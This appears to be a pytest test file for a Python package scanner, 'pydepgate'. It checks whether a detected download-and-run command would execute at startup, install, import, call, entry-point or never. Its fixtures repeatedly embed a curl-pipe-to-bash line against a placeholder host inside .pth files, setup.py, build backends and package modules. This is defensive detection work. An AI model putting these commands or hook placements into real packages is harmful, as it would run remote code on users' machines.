"""When code runs, seen through the findings of small trees."""

from __future__ import annotations

from pathlib import Path

import pytest

from pydepgate import scan
from pydepgate.model import Runs

ATTACK = 'import os\nos.system("curl -s https://server.invalid/x | bash")\n'
INSIDE = 'import os\ndef run():\n    os.system("curl -s https://server.invalid/x | bash")\n'
METADATA = "Metadata-Version: 2.1\nName: pkg\nVersion: 1\n"


def _runs(folder: Path, files: dict[str, str]) -> Runs:
    for path, text in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
    (finding,) = (f for f in scan(folder).findings if f.rule == "download-and-run-command")
    return finding.runs


@pytest.mark.parametrize(
    ("files", "runs"),
    [
        ({"pkg.pth": 'import os; os.system("curl -s https://server.invalid/x | bash")'}, Runs.STARTUP),
        ({"sitecustomize.py": ATTACK}, Runs.STARTUP),
        ({"start.pth": "import pkg.a", "pkg/__init__.py": "", "pkg/a.py": ATTACK}, Runs.STARTUP),
        ({"setup.py": ATTACK}, Runs.INSTALL),
        (
            {"setup.py": f"if __name__ == '__main__':\n    {ATTACK.splitlines()[0]}\n    {ATTACK.splitlines()[1]}\n"},
            Runs.INSTALL,
        ),
        ({"setup.py": "import helper", "helper.py": ATTACK}, Runs.INSTALL),
        ({"setup.py": "def go():\n    import pkg.a\ngo()", "pkg/__init__.py": "", "pkg/a.py": ATTACK}, Runs.INSTALL),
        ({"pkg/__init__.py": ATTACK}, Runs.IMPORT),
        ({"src/pkg/__init__.py": "from . import a", "src/pkg/a.py": ATTACK}, Runs.IMPORT),
        (
            {"pkg/__init__.py": "from .a import b", "pkg/a/__init__.py": "from ..c import d", "pkg/c.py": ATTACK},
            Runs.IMPORT,
        ),
        ({"pkg/__init__.py": "import pkg.a.b", "pkg/a/__init__.py": ATTACK, "pkg/a/b.py": ""}, Runs.IMPORT),
        ({"pkg/__init__.py": INSIDE + "run()\n"}, Runs.IMPORT),
        ({"module.py": ATTACK}, Runs.IMPORT),
        ({"pkg/__init__.py": "", "pkg/a.py": ATTACK}, Runs.IMPORT),
        ({"pkg/__init__.py": INSIDE}, Runs.CALL),
        ({"pkg/__init__.py": "", "pkg/__main__.py": ATTACK}, Runs.MAIN_GUARD),
        ({"pkg/__init__.py": INSIDE + "if __name__ == '__main__':\n    run()\n"}, Runs.MAIN_GUARD),
        ({"tests/test_a.py": ATTACK}, Runs.NEVER),
        ({"unittests/__init__.py": ATTACK, "pkg/__init__.py": ""}, Runs.NEVER),
        (
            {"pkg/__init__.py": "from pkg.tests import a", "pkg/tests/a.py": ATTACK, "pkg/tests/__init__.py": ""},
            Runs.IMPORT,
        ),
        (
            {
                "pkg/__init__.py": "",
                "pkg/cli.py": INSIDE,
                "pkg-1.dist-info/METADATA": METADATA,
                "pkg-1.dist-info/entry_points.txt": "[console_scripts]\npkg = pkg.cli:run [extra]\n",
            },
            Runs.ENTRY_POINT,
        ),
        (
            {
                "pkg/__init__.py": "",
                "pkg/plugin.py": INSIDE.replace("run", "pytest_configure"),
                "pkg-1.dist-info/METADATA": METADATA,
                "pkg-1.dist-info/entry_points.txt": "[pytest11]\npkg = pkg.plugin\n",
            },
            Runs.ENTRY_POINT,
        ),
        (
            {
                "pyproject.toml": '[build-system]\nbuild-backend = "backend"\nbackend-path = ["tools"]\n',
                "tools/backend.py": INSIDE.replace("run", "build_wheel"),
            },
            Runs.INSTALL,
        ),
        (
            {
                "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n"
                + "class After(install):\n"
                + INSIDE.replace("import os\n", "    import os\n")
                .replace("def run():", "    def run(self):")
                .replace("    os.", "        os.")
                + "setup(cmdclass={'install': After})\n",
            },
            Runs.INSTALL,
        ),
    ],
)
def test_when_it_runs(files: dict[str, str], runs: Runs, tmp_path: Path) -> None:
    assert _runs(tmp_path, files) == runs
